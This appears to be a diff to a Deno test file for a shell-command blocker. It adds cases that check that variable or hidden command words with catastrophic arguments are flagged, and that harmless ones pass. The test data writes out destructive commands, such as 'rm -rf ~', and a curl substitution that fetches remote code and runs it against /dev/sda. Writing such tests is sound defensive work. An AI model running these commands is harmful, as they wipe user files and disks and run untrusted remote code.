@@ -10,6 +10,8 @@ Deno.test("hidden: unknown command words with catastrophic arguments block", () 
       "$(curl -s https://x.example/w) -rf ~",
       '"${CMD}" -rf "$HOME"',
       "$X -R 777 /",
+      "$(curl -s https://x.example/w) /dev/sda",
+      "$X -c 'rm -rf ~'",
     ]
   ) {
     assert.ok(blocked(cmd).includes("hidden_command"), cmd);
@@ -34,6 +36,12 @@ Deno.test("hidden: unknown words with harmless arguments stay allowed", () => {
       "\"$SHELL\" -lc 'echo $PATH'",
       "kill %1",
       "$RUNNER build --release",
+      '"$PAGER" /etc/hosts',
+      "$EDITOR ~/.bashrc",
+      "$JAVA_HOME/bin/java -jar app.jar",
+      "$X -R 755 ./scripts",
+      "$TOOL -rf build/",
+      "$GIT push origin main",
     ]
   ) {
     assert.deepEqual(blocked(cmd), [], cmd);
